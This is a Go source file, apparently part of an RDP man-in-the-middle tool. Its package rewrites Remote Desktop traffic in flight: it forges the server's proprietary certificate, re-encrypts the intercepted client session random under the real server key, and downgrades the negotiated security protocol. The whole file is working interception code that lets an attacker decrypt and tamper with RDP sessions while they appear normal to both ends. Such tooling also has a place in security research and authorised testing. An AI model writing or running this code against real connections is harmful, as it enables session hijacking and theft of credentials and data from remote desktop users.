// Package tamper implements the PDU Tamperer: the three byte-rewrite rules
// that turn an inspected-but-otherwise-passthrough PDU into one this tool
// has altered in flight, per spec section 4.7.
package tamper

import (
	"bytes"
	"math/big"

	"github.com/lunixbochs/struc"

	"github.com/rcarmo/rdp-mitm/internal/certforge"
	"github.com/rcarmo/rdp-mitm/internal/downgrade"
	"github.com/rcarmo/rdp-mitm/internal/inspect"
	"github.com/rcarmo/rdp-mitm/internal/logging"
	"github.com/rcarmo/rdp-mitm/internal/rdpcrypto"
	"github.com/rcarmo/rdp-mitm/internal/session"
)

// clientRandomWire mirrors a Client Security Exchange PDU's variable part:
// a 4-byte little-endian length prefix, the RSA-encrypted client random, and
// an 8-byte zero pad, so the re-encrypted replacement keeps the wire's
// key_len+8 layout. Length is the sizeof companion struc needs to pack the
// variable-length slice; reencryptClientRandom drops it from the packed
// bytes because the bytes being replaced start after the length field.
// Grounded on nakagami-grdp/protocol/sec/sec.go's ClientSecurityExchangePDU
// struct tags.
type clientRandomWire struct {
	Length                uint32 `struc:"uint32,little,sizeof=EncryptedClientRandom"`
	EncryptedClientRandom []byte `struc:"little"`
	Padding               []byte `struc:"[8]byte"`
}

// clientRandomLengthPrefix is the size of clientRandomWire's Length field.
const clientRandomLengthPrefix = 4

// Tamper applies every rewrite rule that fires for this PDU and direction,
// returning a (possibly) modified copy. pdu is never mutated in place: a
// tamper rule that fails to apply falls back to the untouched bytes, per
// the error-handling design's "malformed PDU: pass through unmodified"
// rule — a failed tamper must never corrupt what gets forwarded.
func Tamper(sess *session.Session, dir session.Direction, pdu []byte, findings inspect.Findings, downgradeTarget int) []byte {
	if dir == session.ServerToClient {
		return tamperServerToClient(sess, pdu, findings)
	}
	return tamperClientToServer(sess, pdu, findings, downgradeTarget)
}

// tamperServerToClient swaps the server's Proprietary Certificate for a
// forged one the first time it's seen in this session.
func tamperServerToClient(sess *session.Session, pdu []byte, findings inspect.Findings) []byte {
	if !findings.ServerCertCaptured || sess.CertForged {
		return pdu
	}
	ctx := sess.GetCertContext()
	if ctx == nil {
		return pdu
	}

	forgery, err := certforge.Forge(&certforge.Context{
		Modulus:            ctx.Modulus,
		PubExponent:        ctx.PubExponent,
		OriginalSignature:  ctx.OriginalSignature,
		OriginalPubkeyBlob: ctx.OriginalPubkeyBlob,
		FirstFiveFields:    ctx.FirstFiveFields,
	})
	if err != nil {
		logging.Warn("certforge: %v, forwarding original certificate unmodified", err)
		return pdu
	}

	out := bytes.Replace(pdu, ctx.OriginalPubkeyBlob, forgery.NewPubkeyBlob, 1)
	out = bytes.Replace(out, ctx.OriginalSignature, forgery.NewSignature, 1)
	sess.SetForgedKeys(forgery.Keys)
	return out
}

// tamperClientToServer re-encrypts the client's session random under the
// real server's public key once this tool has decrypted it with the forged
// private key, and rewrites the initial negotiation request's requested
// protocol when this is the session's first client->server PDU.
func tamperClientToServer(sess *session.Session, pdu []byte, findings inspect.Findings, downgradeTarget int) []byte {
	if sess.ConsumeNegotiationRequest() {
		if len(pdu) < 4 {
			sess.CommitProtocol(session.ProtocolStandardRDP, session.ProtocolStandardRDP)
			return pdu
		}
		original := int(pdu[len(pdu)-4])
		if rewritten, ok := downgrade.Downgrade(pdu, downgradeTarget); ok {
			sess.CommitProtocol(session.NegotiatedProtocol(original), session.NegotiatedProtocol(downgradeTarget))
			return rewritten
		}
		sess.CommitProtocol(session.NegotiatedProtocol(original), session.NegotiatedProtocol(original))
		return pdu
	}

	if findings.ClientRandomCaptured {
		if reencrypted, ok := reencryptClientRandom(sess); ok {
			return bytes.Replace(pdu, sess.EncryptedClientRandomOriginal, reencrypted, 1)
		}
	}

	return pdu
}

// reencryptClientRandom encrypts the recovered client random under the
// real server's public key (the original, unforged modulus/exponent this
// tool captured from the Server MCS Connect Response), padded back out to
// the wire's key_len+8 layout so the replacement is exactly as long as the
// ciphertext it replaces.
func reencryptClientRandom(sess *session.Session) ([]byte, bool) {
	ctx := sess.GetCertContext()
	if sess.ClientRandom == nil || ctx == nil || len(sess.EncryptedClientRandomOriginal) < 8 {
		return nil, false
	}

	n := rdpcrypto.LEBytesToInt(ctx.Modulus)
	e := big.NewInt(int64(ctx.PubExponent))

	core := len(sess.EncryptedClientRandomOriginal) - 8
	ciphertext := rdpcrypto.ModExpLE(sess.ClientRandom[:], e, n, core)

	var buf bytes.Buffer
	if err := struc.Pack(&buf, &clientRandomWire{
		EncryptedClientRandom: ciphertext,
		Padding:               make([]byte, 8),
	}); err != nil {
		logging.Warn("tamper: failed to pack re-encrypted client random: %v", err)
		return nil, false
	}
	return buf.Bytes()[clientRandomLengthPrefix:], true
}
